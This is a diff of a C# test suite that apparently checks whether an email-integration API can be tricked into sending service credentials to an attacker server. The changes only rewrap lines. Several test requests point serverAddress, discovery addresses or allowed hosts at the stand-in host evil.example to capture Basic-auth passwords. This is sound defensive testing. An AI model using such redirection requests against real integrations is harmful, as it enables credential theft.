@@ -31,7 +31,8 @@ public sealed class EvilServerTests : IAsyncLifetime
         var requests = EvilRequests.All(network.EvilPin, other.Pem);
         Assert.True(requests.Count >= 40);
         Target[] targets = [.. await Targets()];
-        Assert.Equal(["Active", "CredentialRefused", "Disconnecting", "Draft", "Paused"], targets.Select(t => t.Status).Order(StringComparer.Ordinal));
+        Assert.Equal(["Active", "CredentialRefused", "Disconnecting", "Draft", "Paused"], targets.Select(t => t.Status).Order(
+            StringComparer.Ordinal));
 
         List<string> reached = [];
         foreach (var request in requests)
@@ -43,7 +44,8 @@ public sealed class EvilServerTests : IAsyncLifetime
                 if (network.Evil.Logons.Count > before) reached.Add($"{request.Name} ({target.Status}): {network.Evil.Logons[before]}");
                 if ((int)status >= 500 && (int)status != 503) reached.Add($"{request.Name} ({target.Status}): {(int)status} {body}");
                 var stored = await api.Settings(target.Id);
-                reached.AddRange(Bound.Where(f => !JsonNode.DeepEquals(stored[f], target.Settings[f])).Select(f => $"{request.Name} ({target.Status}) changed {f}"));
+                reached.AddRange(Bound.Where(f => !JsonNode.DeepEquals(stored[f], target.Settings[f])).Select(
+                    f => $"{request.Name} ({target.Status}) changed {f}"));
             }
         }
 
@@ -68,19 +70,36 @@ public sealed class EvilServerTests : IAsyncLifetime
         var draft = await Connect("svc-drafted@contoso.example");
         var drafted = await api.Settings(draft);
 
-        await Reaches("a change", HttpMethod.Put, $"integrations/{id}", EvilRequests.With(settings, ("serverAddress", evil), ("password", "Typed-1"), ("tryAnyway", true)));
-        await Reaches("to Basic", HttpMethod.Put, $"integrations/{id}", EvilRequests.With(settings, ("serverAddress", evil), ("authentication", "Basic"), ("password", "Typed-2"), ("tryAnyway", true)));
+        await Reaches("a change", HttpMethod.Put, $"integrations/{id}", EvilRequests.With(
+            settings, ("serverAddress", evil), ("password", "Typed-1"), ("tryAnyway", true)));
+        await Reaches("to Basic", HttpMethod.Put, $"integrations/{id}", EvilRequests.With(
+            settings, ("serverAddress", evil), ("authentication", "Basic"), ("password", "Typed-2"), ("tryAnyway", true)));
         Assert.EndsWith("Basic svc-control@contoso.example:Typed-2", network.Evil.Logons[^1], StringComparison.Ordinal);
-        await Reaches("to plain http", HttpMethod.Put, $"integrations/{id}", EvilRequests.With(settings, ("serverAddress", "http://evil.example/EWS/Exchange.asmx"), ("password", "Typed-3"), ("tryAnyway", true)));
-        await Reaches("another port", HttpMethod.Put, $"integrations/{id}", EvilRequests.With(settings, ("serverAddress", "https://mail.contoso.example:8443/EWS/Exchange.asmx"), ("password", "Typed-4"), ("tryAnyway", true)));
-        await Reaches("a search again", HttpMethod.Post, $"integrations/{id}/discovery", new JsonObject { ["mailAddress"] = "svc@evil.example", ["password"] = "Typed-5", ["tryAnyway"] = true });
-        await Reaches("hosts", HttpMethod.Post, $"integrations/{id}/discovery", new JsonObject { ["allowedHosts"] = new JsonArray("evil.example"), ["password"] = DiscoverableExchange.Password, ["tryAnyway"] = true });
+        await Reaches("to plain http", HttpMethod.Put, $"integrations/{id}", EvilRequests.With(
+            settings, ("serverAddress", "http://evil.example/EWS/Exchange.asmx"), ("password", "Typed-3"), ("tryAnyway", true)));
+        await Reaches("another port", HttpMethod.Put, $"integrations/{id}", EvilRequests.With(
+            settings, ("serverAddress", "https://mail.contoso.example:8443/EWS/Exchange.asmx"), ("password", "Typed-4"), (
+            "tryAnyway", true)));
+        await Reaches("a search again", HttpMethod.Post, $"integrations/{id}/discovery",
+            new JsonObject { ["mailAddress"] = "svc@evil.example", ["password"] = "Typed-5", ["tryAnyway"] = true });
+        await Reaches("hosts", HttpMethod.Post, $"integrations/{id}/discovery",
+            new JsonObject
+            {
+                ["allowedHosts"] = new JsonArray("evil.example"),
+                ["password"] = DiscoverableExchange.Password,
+                ["tryAnyway"] = true
+            });
         await Reaches("a first search", HttpMethod.Post, "server-discoveries", new JsonObject
         {
-            ["userName"] = "svc@evil.example", ["password"] = "Typed-6", ["authorityCertificates"] = network.Contoso.Authority, ["tryAnyway"] = true,
+            ["userName"] = "svc@evil.example",
+            ["password"] = "Typed-6",
+            ["authorityCertificates"] = network.Contoso.Authority,
+            ["tryAnyway"] = true,
         });
-        await Reaches("a diagnosis", HttpMethod.Post, "integrations/diagnosis", EvilRequests.With(settings, ("serverAddress", evil), ("password", "Typed-7"), ("tryAnyway", true)));
-        await api.Ok(HttpMethod.Put, $"integrations/{draft}", EvilRequests.With(drafted, ("serverAddress", evil), ("authentication", "Basic"), ("password", "Typed-8")));
+        await Reaches("a diagnosis", HttpMethod.Post, "integrations/diagnosis", EvilRequests.With(
+            settings, ("serverAddress", evil), ("password", "Typed-7"), ("tryAnyway", true)));
+        await api.Ok(HttpMethod.Put, $"integrations/{draft}", EvilRequests.With(
+            drafted, ("serverAddress", evil), ("authentication", "Basic"), ("password", "Typed-8")));
         await Reaches("a draft that is authorized", HttpMethod.Post, $"integrations/{draft}/authorize", null);
         Assert.EndsWith("Basic svc-drafted@contoso.example:Typed-8", network.Evil.Logons[^1], StringComparison.Ordinal);
     }
